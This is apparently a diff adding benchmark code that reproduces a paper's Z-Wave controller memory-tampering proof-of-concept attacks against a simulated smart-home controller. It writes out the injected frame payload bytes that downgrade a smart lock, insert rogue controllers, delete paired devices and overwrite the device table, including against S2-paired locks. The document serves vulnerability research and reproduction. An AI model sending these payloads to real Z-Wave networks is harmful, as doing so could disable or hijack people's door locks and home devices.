@@ -1,0 +1,105 @@
+"""Figures 8-11 — the controller memory-tampering proof-of-concept attacks.
+
+Each bench replays the corresponding attack payload against a pristine
+controller and prints the node table before and after, mirroring the
+paper's PC-Controller-program screenshots:
+
+* Figure 8  — degrade the smart lock's record to a routing slave (bug #01);
+* Figure 9  — insert rogue controllers with IDs 10 and 200 (bug #02);
+* Figure 10 — remove the paired devices (bug #03);
+* Figure 11 — overwrite the device table with fakes (bug #04).
+"""
+
+from repro.simulator.memory import NodeTable
+from repro.simulator.testbed import LOCK_NODE_ID, SWITCH_NODE_ID, build_sut
+from repro.zwave.frame import ZWaveFrame
+
+from conftest import BENCH_SEED
+
+
+def _attack(payload):
+    sut = build_sut("D1", seed=BENCH_SEED, traffic=False)
+    before = sut.controller.nvm.snapshot()
+    frame = ZWaveFrame(
+        home_id=sut.profile.home_id, src=0x0F, dst=1, payload=payload
+    )
+    sut.dongle.inject(frame)
+    sut.clock.advance(0.1)
+    after = sut.controller.nvm.snapshot()
+    return sut, before, after
+
+
+def _show(label, before, after):
+    print(f"\n{label}")
+    print("  before:", [(r.node_id, r.basic, r.name) for r in before])
+    print("  after :", [(r.node_id, r.basic, r.name) for r in after])
+    for change in NodeTable.diff(before, after):
+        print("  *", change.describe())
+
+
+def bench_fig8_modify_lock_record(benchmark):
+    sut, before, after = benchmark.pedantic(
+        lambda: _attack(bytes([0x01, 0x0D, LOCK_NODE_ID, 0x01, 0x00, 0x10])),
+        rounds=1, iterations=1,
+    )
+    _show("Figure 8: smart lock degraded to routing slave", before, after)
+    record = sut.controller.nvm.get(LOCK_NODE_ID)
+    assert record.basic == 0x04 and not record.secure
+
+
+def bench_fig9_insert_rogue_controllers(benchmark):
+    def attack():
+        sut = build_sut("D1", seed=BENCH_SEED, traffic=False)
+        before = sut.controller.nvm.snapshot()
+        for rogue_id in (10, 200):  # the paper inserts IDs #10 and #200
+            frame = ZWaveFrame(
+                home_id=sut.profile.home_id, src=0x0F, dst=1,
+                payload=bytes([0x01, 0x0D, rogue_id, 0x02]),
+            )
+            sut.dongle.inject(frame)
+            sut.clock.advance(0.1)
+        return sut, before, sut.controller.nvm.snapshot()
+
+    sut, before, after = benchmark.pedantic(attack, rounds=1, iterations=1)
+    _show("Figure 9: rogue controllers #10 and #200 inserted", before, after)
+    assert sut.controller.nvm.get(10).is_controller
+    assert sut.controller.nvm.get(200).is_controller
+
+
+def bench_fig10_remove_devices(benchmark):
+    def attack():
+        sut = build_sut("D1", seed=BENCH_SEED, traffic=False)
+        before = sut.controller.nvm.snapshot()
+        for node_id in (LOCK_NODE_ID, SWITCH_NODE_ID):
+            frame = ZWaveFrame(
+                home_id=sut.profile.home_id, src=0x0F, dst=1,
+                payload=bytes([0x01, 0x0D, node_id, 0x03]),
+            )
+            sut.dongle.inject(frame)
+            sut.clock.advance(0.1)
+        return sut, before, sut.controller.nvm.snapshot()
+
+    sut, before, after = benchmark.pedantic(attack, rounds=1, iterations=1)
+    _show("Figure 10: paired devices removed from memory", before, after)
+    assert len(sut.controller.nvm) == 0
+
+
+def bench_fig11_overwrite_database(benchmark):
+    sut, before, after = benchmark.pedantic(
+        lambda: _attack(bytes([0x01, 0x0D, 0x01, 0x04, 0x00, 0x10])),
+        rounds=1, iterations=1,
+    )
+    _show("Figure 11: device table overwritten with fakes", before, after)
+    assert sut.controller.nvm.node_ids() == (10, 20, 30, 200)
+    assert LOCK_NODE_ID not in sut.controller.nvm
+
+
+def bench_memory_attacks_survive_s2(benchmark):
+    """The headline finding: the attacks land although the lock pairs S2."""
+    def attack():
+        return _attack(bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]))
+
+    sut, before, after = benchmark.pedantic(attack, rounds=1, iterations=1)
+    lock_before = next(r for r in before if r.node_id == LOCK_NODE_ID)
+    assert lock_before.secure and lock_before.granted_keys  # paired with S2
+    assert LOCK_NODE_ID not in sut.controller.nvm  # ...and gone regardless
